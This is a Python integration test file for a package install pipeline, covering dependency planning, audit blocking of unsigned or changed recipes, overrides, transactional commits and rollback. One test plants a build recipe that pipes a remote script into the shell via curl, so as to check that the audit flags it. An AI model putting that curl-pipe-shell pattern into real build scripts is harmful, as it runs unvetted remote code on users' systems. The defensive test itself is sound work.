"""Integration tests for the install pipeline.

These tests drive the real resolver, graph builder, audit pipeline,
sandbox orchestrator and install executor end to end, with in-memory
backends, a fake sandbox driver and a temporary managed root standing
in for the host.
"""

import json
import threading
from datetime import datetime

import pytest
from reap.models.record import BackendOrigin
from reap.models.transaction import TransactionState


@pytest.fixture
def records(make_record):
    """foo depends on bar and baz; qux stands alone."""
    return [
        make_record("foo", depends=["bar", "baz>=1.0"]),
        make_record("bar"),
        make_record("baz", version="1.2-1"),
        make_record("qux"),
    ]


class TestPlanning:
    """Planning across backends."""

    def test_dependencies_first(self, make_harness, make_backend, records) -> None:
        """Dependencies are ordered before their dependents."""
        harness = make_harness([make_backend(records=records)])

        plan = harness.pipeline.plan(["foo"])

        assert plan.names == ["bar", "baz", "foo"]
        assert [node.requested for node in plan] == [False, False, True]

    def test_deterministic(self, make_harness, make_backend, make_record, records) -> None:
        """The same inputs always yield the same plan."""
        aur = make_backend(
            BackendOrigin.AUR,
            [make_record("bar", origin=BackendOrigin.AUR)],
            delay=0.05,
        )
        harness = make_harness([make_backend(records=records), aur])

        plans = [harness.pipeline.plan(["qux", "foo"]) for _ in range(5)]

        assert all(plan.names == plans[0].names for plan in plans)
        assert all(
            [n.record.origin for n in plan] == [n.record.origin for n in plans[0]]
            for plan in plans
        )

    def test_installed_dependency_skipped(self, make_harness, make_backend, records) -> None:
        """Dependencies already on the host are not planned again."""
        harness = make_harness([make_backend(records=records)])
        harness.pipeline.run(["bar"], accept_changes=True)

        plan = harness.pipeline.plan(["foo"])

        assert plan.names == ["baz", "foo"]

    def test_provided_dependency_skipped(self, make_harness, make_backend, make_record) -> None:
        """A virtual dependency provided by an installed package is not planned."""
        harness = make_harness([make_backend(records=[make_record("foo", depends=["sh"])])])
        bash = harness.root / "var/lib/pacman/local/bash-5.2.037-1"
        bash.mkdir(parents=True)
        (bash / "desc").write_text("%NAME%\nbash\n\n%PROVIDES%\nsh\n")

        plan = harness.pipeline.plan(["foo"])

        assert plan.names == ["foo"]


class TestAuditGate:
    """Blocked audits keep packages off the host."""

    def test_blocked_dependency(self, make_harness, make_backend, make_record) -> None:
        """An unsigned dependency blocks the whole batch before any sandbox runs."""
        aur = make_backend(
            BackendOrigin.AUR,
            [
                make_record("foo", origin=BackendOrigin.AUR, depends=["bar", "baz"]),
                make_record("baz", origin=BackendOrigin.AUR),
            ],
            unsigned=["baz"],
        )
        pacman = make_backend(
            BackendOrigin.PACMAN, [make_record("bar", origin=BackendOrigin.PACMAN)]
        )
        harness = make_harness([aur, pacman])

        report = harness.pipeline.run(["foo"], accept_changes=True)

        assert report.plan is not None
        assert report.plan.names == ["bar", "baz", "foo"]
        assert [(f.package, f.error) for f in report.failures] == [
            ("baz", "AuditBlockedError")
        ]
        assert report.audits["pacman:bar"].blocked is False
        assert report.audits["aur:foo"].blocked is False
        assert report.transaction is None
        assert harness.driver.provisioned == 0
        assert harness.installed() == {}
        assert harness.snapshots.list() == []

    def test_override(self, make_harness, make_backend, records) -> None:
        """An override installs the batch and is journaled with the transaction."""
        backend = make_backend(records=records, unsigned=["baz"])
        harness = make_harness([backend])

        report = harness.pipeline.run(["foo"], override=True, accept_changes=True)

        assert report.committed
        assert [o.package for o in report.overrides] == ["baz"]
        journaled = harness.state.get_transaction(report.transaction.id)
        assert journaled is not None
        assert journaled.is_overridden("baz")
        assert journaled.overrides[0].reasons == ("signature missing",)

    def test_override_not_sticky(self, make_harness, make_backend, records) -> None:
        """An override applies to one transaction only."""
        backend = make_backend(records=records, unsigned=["qux"])
        harness = make_harness([backend])
        harness.pipeline.run(["qux"], override=True, accept_changes=True)

        report = harness.pipeline.test(["qux"], accept_changes=True)

        assert [f.error for f in report.failures] == ["AuditBlockedError"]

    def test_changed_recipe_blocks(self, make_harness, make_backend, records) -> None:
        """A recipe that changed since it was accepted needs review."""
        backend = make_backend(records=records)
        harness = make_harness([backend])
        harness.pipeline.run(["qux"], accept_changes=True)
        backend.recipes["qux"] = (
            "pkgname=qux\npkgver=1.0\npkgrel=1\n"
            "build() {\n  curl -s https://example.org/x.sh | sh\n}\n"
        )

        report = harness.pipeline.test(["qux"])

        audit = report.audits["tap:qux"]
        assert audit.blocked
        assert "curl-pipe-shell" in {f.rule for f in audit.findings}


class TestCommit:
    """Host writes inside snapshot-backed transactions."""

    def test_commit(self, make_harness, make_backend, records) -> None:
        """A clean batch reaches the host in plan order."""
        harness = make_harness([make_backend(records=records)])

        report = harness.pipeline.run(["foo"], accept_changes=True)

        assert report.committed
        assert harness.operator.installed == ["bar", "baz", "foo"]
        assert harness.read("/usr/bin/foo") == "foo 1.0-1\n"
        assert harness.installed() == {"bar": "1.0-1", "baz": "1.2-1", "foo": "1.0-1"}
        snapshot = harness.snapshots.get(report.transaction.snapshot_id)
        assert sorted(f.path for f in snapshot.files) == [
            "/usr",
            "/usr/bin",
            "/usr/bin/bar",
            "/usr/bin/baz",
            "/usr/bin/foo",
        ]

    def test_write_failure_rolls_back(self, make_harness, make_backend, records) -> None:
        """A failed write restores every file and the package database."""
        harness = make_harness([make_backend(records=records)], fail=["foo"])
        old_bar = harness.root / "usr" / "bin" / "bar"
        old_bar.parent.mkdir(parents=True)
        old_bar.write_text("old")

        report = harness.pipeline.run(["foo"], accept_changes=True)

        txn = report.transaction
        assert txn is not None
        assert txn.state == TransactionState.ROLLED_BACK
        assert harness.operator.installed == ["bar", "baz"]
        assert harness.read("/usr/bin/bar") == "old"
        assert harness.read("/usr/bin/baz") is None
        assert harness.read("/usr/bin/foo") is None
        assert harness.installed() == {}
        assert [(f.package, f.error, f.restored) for f in report.failures] == [
            ("foo", "OSError", True)
        ]

    def test_first_write_failure_restores_preimage(
        self, make_harness, make_backend, records
    ) -> None:
        """A write error on the first package restores the file it overwrote."""
        harness = make_harness([make_backend(records=records)], fail=["bar"])
        old_bar = harness.root / "usr" / "bin" / "bar"
        old_bar.parent.mkdir(parents=True)
        old_bar.write_text("old")

        report = harness.pipeline.run(["foo"], accept_changes=True)

        assert report.transaction.state == TransactionState.ROLLED_BACK
        assert report.transaction.applied == []
        assert harness.read("/usr/bin/bar") == "old"
        assert report.failures[0].package == "bar"

    def test_journal_records_lifecycle(self, make_harness, make_backend, records) -> None:
        """Every state change is appended to the journal."""
        harness = make_harness([make_backend(records=records)], reject=["baz"])

        report = harness.pipeline.run(["foo"], accept_changes=True)

        lines = harness.state.journal_path.read_text().splitlines()
        states = [json.loads(line)["state"] for line in lines]
        assert list(dict.fromkeys(states)) == ["pending", "committing", "failed", "rolled-back"]
        assert report.transaction.applied == ["tap:bar"]

    def test_concurrent_commits_serialized(self, make_harness, make_backend, records) -> None:
        """Disjoint batches build concurrently but never commit at the same time."""
        harness = make_harness([make_backend(records=records)], delay=0.2)
        reports = {}

        def install(name: str) -> None:
            reports[name] = harness.pipeline.run([name], accept_changes=True)

        threads = [threading.Thread(target=install, args=(name,)) for name in ("bar", "qux")]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=30)

        assert all(report.committed for report in reports.values())
        windows = sorted(
            (
                datetime.fromisoformat(report.transaction.committing_started),
                datetime.fromisoformat(report.transaction.committing_finished),
            )
            for report in reports.values()
        )
        assert windows[0][1] <= windows[1][0]
        assert harness.installed() == {"bar": "1.0-1", "qux": "1.0-1"}

    def test_checkpoint_failure_reported(
        self, make_harness, make_backend, records, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A checkpoint write error is a stage failure; nothing reaches the host."""
        harness = make_harness([make_backend(records=records)])

        def full_disk(*args: object, **kwargs: object) -> None:
            msg = "No space left on device"
            raise OSError(msg)

        monkeypatch.setattr(harness.snapshots, "checkpoint", full_disk)

        report = harness.pipeline.run(["qux"], accept_changes=True)

        assert report.transaction is None
        assert [(f.package, f.stage, f.error) for f in report.failures] == [
            ("*", "checkpoint", "OSError")
        ]
        assert harness.operator.installed == []
